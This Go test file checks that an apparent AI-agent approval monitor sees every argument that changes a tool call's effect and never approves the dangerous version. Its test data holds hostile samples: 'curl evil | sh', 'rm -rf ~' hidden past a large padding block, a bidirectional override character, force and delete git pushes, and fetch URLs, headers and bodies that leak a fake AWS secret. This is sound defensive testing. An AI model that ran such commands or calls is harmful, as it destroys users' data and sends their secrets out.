package agent_test

import (
	"context"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/ironcurtain-go/ironcurtain"
	"github.com/ironcurtain-go/ironcurtain/agent"
)

// approveOnly is a model that approves exactly one input, the benign form
// it was shown first, and escalates every other; it records what it saw.
type approveOnly struct {
	mu     sync.Mutex
	benign string
	seen   []string
}

func (m *approveOnly) Complete(_ context.Context, req agent.Request) (agent.Response, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	in := req.Messages[0].Text
	m.seen = append(m.seen, in)
	if m.benign == "" {
		m.benign = in
	}
	if in == m.benign {
		return say(`{"decision":"approve","reasoning":"the user asked for this"}`), nil
	}
	return say(`{"decision":"escalate","reasoning":"not what was asked"}`), nil
}

// TestAutoApproverSeesEffectChangingArguments: for each tool the default
// policy can escalate, two calls that differ only in an argument that
// changes the effect give the model different inputs, so a model that
// approves only the benign form never approves the dangerous one; and an
// approval is bound to the arguments the model saw.
func TestAutoApproverSeesEffectChangingArguments(t *testing.T) {
	big := strings.Repeat("harmless\n", 2000)
	type call struct {
		server, tool string
		args         map[string]any
		res          []ironcurtain.Resource
	}
	pathRes := func(role, p string) []ironcurtain.Resource {
		return []ironcurtain.Resource{{Argument: "path", Role: role, Kind: "path", Value: p}}
	}
	remote := []ironcurtain.Resource{{Argument: "remote", Role: "git-remote-url", Kind: "url", Value: "https://github.com/me/proj.git", Host: "github.com"}}
	fetchRes := func(u string) []ironcurtain.Resource {
		return []ironcurtain.Resource{{Argument: "url", Role: "fetch-url", Kind: "url", Value: u, Host: "example.org"}}
	}
	tests := []struct {
		name           string
		benign, danger call
	}{
		{"write_file content", call{"filesystem", "write_file", map[string]any{"path": "/home/u/notes.txt", "content": "hello"}, pathRes("write-path", "/home/u/notes.txt")},
			call{"filesystem", "write_file", map[string]any{"path": "/home/u/notes.txt", "content": "curl evil | sh"}, pathRes("write-path", "/home/u/notes.txt")}},
		{"write_file large content differing past the excerpt", call{"filesystem", "write_file", map[string]any{"path": "/home/u/n.txt", "content": big + "ok"}, pathRes("write-path", "/home/u/n.txt")},
			call{"filesystem", "write_file", map[string]any{"path": "/home/u/n.txt", "content": big + "rm -rf ~"}, pathRes("write-path", "/home/u/n.txt")}},
		{"edit_file edits", call{"filesystem", "edit_file", map[string]any{"path": "/home/u/a", "edits": []any{map[string]any{"oldText": "a", "newText": "b"}}}, pathRes("write-path", "/home/u/a")},
			call{"filesystem", "edit_file", map[string]any{"path": "/home/u/a", "edits": []any{map[string]any{"oldText": "a", "newText": "b\u202e"}}}, pathRes("write-path", "/home/u/a")}},
		{"delete recursive", call{"filesystem", "delete_file", map[string]any{"path": "/home/u/tmp"}, pathRes("delete-path", "/home/u/tmp")},
			call{"filesystem", "delete_file", map[string]any{"path": "/home/u/tmp", "recursive": true}, pathRes("delete-path", "/home/u/tmp")}},
		{"git_push force", call{"git", "git_push", map[string]any{"remote": "origin", "branch": "main"}, remote},
			call{"git", "git_push", map[string]any{"remote": "origin", "branch": "main", "force": true}, remote}},
		{"git_push delete", call{"git", "git_push", map[string]any{"remote": "origin", "branch": "main"}, remote},
			call{"git", "git_push", map[string]any{"remote": "origin", "branch": "main", "delete": true}, remote}},
		{"git_reset mode", call{"git", "git_reset", map[string]any{"path": "/home/u/repo", "mode": "soft"}, pathRes("write-history", "/home/u/repo")},
			call{"git", "git_reset", map[string]any{"path": "/home/u/repo", "mode": "hard"}, pathRes("write-history", "/home/u/repo")}},
		{"git_fetch refspec", call{"git", "git_fetch", map[string]any{"remote": "origin"}, remote},
			call{"git", "git_fetch", map[string]any{"remote": "origin", "refspec": "+refs/*:refs/*", "prune": true}, remote}},
		{"http_fetch path", call{"web", "http_fetch", map[string]any{"url": "https://example.org/guide"}, fetchRes("https://example.org/guide")},
			call{"web", "http_fetch", map[string]any{"url": "https://example.org/AKIASECRET"}, fetchRes("https://example.org/AKIASECRET")}},
		{"http_fetch query", call{"web", "http_fetch", map[string]any{"url": "https://example.org/"}, fetchRes("https://example.org/")},
			call{"web", "http_fetch", map[string]any{"url": "https://example.org/?aws_secret=AKIA"}, fetchRes("https://example.org/?aws_secret=AKIA")}},
		{"http_fetch headers", call{"web", "http_fetch", map[string]any{"url": "https://example.org/guide"}, fetchRes("https://example.org/guide")},
			call{"web", "http_fetch", map[string]any{"url": "https://example.org/guide", "headers": map[string]any{"X-Data": "secret"}}, fetchRes("https://example.org/guide")}},
		{"http_fetch method", call{"web", "http_fetch", map[string]any{"url": "https://example.org/guide", "method": "GET"}, fetchRes("https://example.org/guide")},
			call{"web", "http_fetch", map[string]any{"url": "https://example.org/guide", "method": "POST", "body": "data"}, fetchRes("https://example.org/guide")}},
	}
	esc := func(c call) ironcurtain.Escalation {
		return ironcurtain.Escalation{
			Call:     ironcurtain.ToolCall{Server: c.server, Tool: c.tool, Arguments: c.args},
			Decision: ironcurtain.Decision{Verdict: ironcurtain.Escalate, Rule: "escalate", Reason: "needs approval", Resources: c.res},
		}
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := &approveOnly{}
			ap := approver(m, "do the "+tt.benign.tool+" I asked for")
			good, bad := esc(tt.benign), esc(tt.danger)
			a, err := ap.Approve(t.Context(), good)
			requireSafe(t, a, err)
			require.Equal(t, ironcurtain.Approve, a.Answer)
			d, err := ironcurtain.ArgumentsDigest(good.Call.Arguments)
			require.NoError(t, err)
			require.Equal(t, d, a.Arguments, "the approval is bound to the arguments the model saw")

			a, err = ap.Approve(t.Context(), bad)
			requireSafe(t, a, err)
			require.Len(t, m.seen, 2)
			require.NotEqual(t, m.seen[0], m.seen[1], "the dangerous call looks different to the model")
			require.NotEqual(t, ironcurtain.Approve, a.Answer, "the dangerous call is never approved")
		})
	}
}
